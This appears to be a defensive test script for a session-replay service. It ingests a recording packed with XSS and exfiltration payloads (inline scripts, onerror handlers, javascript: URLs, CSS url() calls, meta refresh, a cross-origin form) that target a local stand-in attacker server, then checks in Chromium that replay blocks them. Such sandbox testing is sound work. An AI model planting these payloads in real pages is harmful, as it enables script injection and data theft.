// Stores a hostile recording (scripts, inline handlers, javascript: URLs, SVG script, meta refresh,
// <base href>, a form posting elsewhere, CSS url() exfiltration, external images and stylesheets)
// and plays it on the replay page in Chromium. Reports every request that reached the "attacker"
// server, dialogs, navigations and globals the recorded code would have set.
// Env: BASE_URL, TOKEN, INGEST_KEY, ORIGIN (an allowed origin for the key).
import http from 'node:http';
import path from 'node:path';
import { launchChromium } from './lib.mjs';

const { BASE_URL, TOKEN, INGEST_KEY, ORIGIN } = process.env;
const base = BASE_URL.replace(/\/$/, '');
const hits = [];
const attacker = http.createServer((req, res) => {
  hits.push(`${req.method} ${req.url}`);
  res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
  res.end('ok');
});
await new Promise((r) => attacker.listen(0, '127.0.0.1', r));
const A = `http://127.0.0.1:${attacker.address().port}`;

let id = 1;
const el = (tagName, attributes = {}, childNodes = []) => ({ type: 2, tagName, attributes, childNodes, id: id++ });
const text = (textContent) => ({ type: 3, textContent, id: id++ });
const doc = {
  type: 0, id: id++, childNodes: [
    { type: 1, name: 'html', publicId: '', systemId: '', id: id++ },
    el('html', {}, [
      el('head', {}, [
        el('meta', { 'http-equiv': 'refresh', content: `0;url=${A}/meta-refresh` }),
        el('base', { href: `${A}/base/` }),
        el('link', { rel: 'stylesheet', href: `${A}/external.css` }),
        el('style', { _cssText: `body { background: url(${A}/css-url); } @import url(${A}/css-import);` }),
        el('script', {}, [text(`fetch('${A}/script'); window.top.__pwned = 'script';`)]),
      ]),
      el('body', { onload: `fetch('${A}/body-onload')` }, [
        el('h1', {}, [text('Hostile page')]),
        el('img', { src: `${A}/img.png`, onerror: `fetch('${A}/img-onerror'); window.top.__pwned = 'onerror'` }),
        el('img', { src: 'relative.png' }),
        el('a', { id: 'jslink', href: `javascript:fetch('${A}/javascript-url');window.top.__pwned='js-url'`, style: 'display:block;width:300px;height:40px;background:#eee' }, [text('click me')]),
        el('svg', { width: '10', height: '10' }, [el('script', {}, [text(`fetch('${A}/svg-script')`)])]),
        el('form', { id: 'f', action: `${A}/form-post`, method: 'post' }, [
          el('input', { name: 'q', value: 'x' }),
          el('button', { id: 'submit', type: 'submit', style: 'width:200px;height:40px' }, [text('Submit')]),
        ]),
        el('div', { style: `width:50px;height:50px;background-image:url(${A}/inline-style)` }),
        el('iframe', { srcdoc: `<script>fetch('${A}/srcdoc')</script>` }),
        el('object', { data: `${A}/object` }),
        el('video', { src: `${A}/video.mp4`, autoplay: '' }),
      ]),
    ]),
  ],
};
const now = Date.now() - 10_000;
const bodyId = doc.childNodes[1].childNodes[1].id;
const events = [
  { type: 4, timestamp: now, data: { href: `${A}/page`, width: 1024, height: 700 } },
  { type: 2, timestamp: now + 10, data: { node: doc, initialOffset: { top: 0, left: 0 } } },
  { type: 3, timestamp: now + 1000, data: { source: 0, texts: [], removes: [], attributes: [{ id: bodyId, attributes: { onclick: `fetch('${A}/mutation-onclick')` } }],
    adds: [{ parentId: bodyId, nextId: null, node: { type: 2, tagName: 'script', attributes: { src: `${A}/added-script.js` }, childNodes: [], id: 9001 } },
           { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'img', attributes: { src: `${A}/added-img.png`, onload: `fetch('${A}/added-onload')` }, childNodes: [], id: 9002 } }] } },
  { type: 3, timestamp: now + 2000, data: { source: 2, type: 2, id: 9002, x: 10, y: 10 } },
  { type: 5, timestamp: now + 2500, data: { tag: 'error', payload: { type: '<img src=x onerror=alert(1)>', message: `<script>fetch('${A}/marker-label')</script>` } } },
  { type: 3, timestamp: now + 4000, data: { source: 1, positions: [{ x: 5, y: 5, id: bodyId, timeOffset: 0 }] } },
];
const sessionId = 'hostile-' + Math.random().toString(36).slice(2, 12);
const res = await fetch(`${base}/api/v1/ingest`, {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'x-replaylink-key': INGEST_KEY, origin: ORIGIN },
  body: JSON.stringify({ sessionId, windowId: 'window-hostile', seq: 0, sentAt: now + 4100, events }),
});
if (res.status !== 200) {
  console.error('ingest failed', res.status, await res.text());
  process.exit(1);
}

const browser = await launchChromium();
const result = { sessionId };
try {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  const dialogs = [];
  const navigations = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  page.on('framenavigated', (f) => navigations.push(f.url()));
  await page.goto(`${base}/login?next=${encodeURIComponent(`/replay/${sessionId}?t=${now + 100}`)}`);
  await page.fill('#token', TOKEN);
  await Promise.all([page.waitForNavigation(), page.click('button[type=submit]')]);
  await page.waitForFunction(() => document.body.dataset.state, null, { timeout: 30000 });
  result.state = await page.evaluate(() => document.body.dataset.state);
  const replayUrl = page.url();
  // play through the whole recording
  await page.evaluate(() => document.querySelector('#play, .rr-controller__btns button')?.click());
  await page.waitForTimeout(5000);
  // try to trigger the javascript: link and the form inside the replay
  const frame = page.frames().find((f) => f !== page.mainFrame());
  result.frameFound = Boolean(frame);
  if (frame) {
    await frame.evaluate(() => {
      try { document.getElementById('jslink')?.click(); } catch (e) { /* blocked */ }
      try { document.getElementById('submit')?.click(); } catch (e) { /* blocked */ }
    }).catch((e) => { result.frameEvalError = String(e).slice(0, 200); });
  }
  await page.mouse.click(200, 200);
  await page.waitForTimeout(2000);
  result.sandbox = (await page.getAttribute('.replayer-wrapper iframe', 'sandbox')) ?? null;
  result.pwned = await page.evaluate(() => window.__pwned ?? null);
  result.markerLabelIsText = await page.evaluate(() => {
    const li = document.querySelector('#markers li[data-kind="error"] .label');
    return li ? li.children.length === 0 && li.textContent.includes('<script>') : null;
  });
  result.finalUrl = page.url();
  result.stayed = page.url() === replayUrl;
  result.dialogs = dialogs;
  result.topNavigations = navigations.filter((u) => !u.startsWith(base) && u !== 'about:blank' && u !== 'about:srcdoc');
  await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR || '.', 'hostile-replay.png') });
} finally {
  await browser.close();
  attacker.close();
}
result.attackerHits = hits;
console.log(JSON.stringify(result));
